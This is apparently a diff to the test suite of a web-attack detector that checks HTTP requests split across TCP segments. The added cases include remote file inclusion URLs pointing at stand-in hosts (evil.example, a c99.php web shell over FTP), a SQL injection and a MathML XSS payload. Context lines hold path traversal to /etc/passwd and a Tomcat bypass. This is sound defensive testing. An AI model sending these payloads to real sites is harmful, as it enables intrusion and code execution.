@@ -118,6 +118,10 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ["a script's source through its NTFS stream name (::$DATA, wapiti)", get('/download?file=download%3A%3A%24DATA'), TRAVERSAL, 'query', 'file'],
   ["remote file inclusion: wapiti's URL cut by a NUL byte", get('/download?file=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00'), TRAVERSAL, 'query', 'file'],
   ['remote file inclusion: a URL ending in ?', get('/index.php?page=http://198.51.100.7/shell.txt?'), TRAVERSAL, 'query', 'page'],
+  ['remote file inclusion: an include parameter given a URL of code', get('/index.php?page=http://evil.example/shell.txt'), TRAVERSAL, 'query', 'page'],
+  ['remote file inclusion: a form field given an FTP URL of PHP', post('application/x-www-form-urlencoded', 'lang=ftp%3A%2F%2F203.0.113.9%2Fc99.php'), TRAVERSAL, 'body', 'lang'],
+  ['sqli: a number OR TRUE', get('/item?id=1+OR+TRUE'), SQLI, 'query', 'id'],
+  ['xss: markup inside a style element in MathML', get('/search?q=%3Cmath%3E%3Cmtext%3E%3Ctable%3E%3Cmglyph%3E%3Cstyle%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), XSS, 'query', 'q'],
   ['path traversal in the path, encoded', get('/static/..%2f..%2f..%2f..%2fetc/passwd'), TRAVERSAL, 'path', ''],
   ["path traversal past a proxy's rules: Tomcat's ..;/ segment", get('/examples/..;/manager/html'), TRAVERSAL, 'path', ''],
   ['path traversal in the query', get('/download?file=../../../../etc/passwd'), TRAVERSAL, 'query', 'file'],
@@ -821,6 +825,13 @@ describe('web attacks across TCP segments', () => {
     const out = keepAlive(hosts.map((host) => `GET /index.php?page=http://cdn.example/x.php? HTTP/1.1\r\nHost: ${host}\r\n\r\n`));
     assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 13, 'query', 'page', CLIENT]]);
     assert.equal(out.alerts[0].metadata.rule[0], 'remote file inclusion (URL ending in ?)');
+  });
+
+  it('judges an include parameter by its name: a URL of code clean under another name is still an inclusion under page=', () => {
+    const targets = ['/go?u=http://evil.example/s.txt', '/go?u=http://evil.example/s.txt', '/go?u=http://evil.example/s.txt', '/index.php?page=http://evil.example/s.txt', '/index.php?page=http://shop.example/s.txt'];
+    const out = keepAlive(targets.map((target) => `GET ${target} HTTP/1.1\r\nHost: shop.example\r\n\r\n`));
+    assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 13, 'query', 'page', CLIENT]]);
+    assert.equal(out.alerts[0].metadata.rule[0], 'remote file inclusion (code or text file URL in page)');
   });
 
   it('does not keep as clean another reading of a value, which skipped the XSS check', () => {
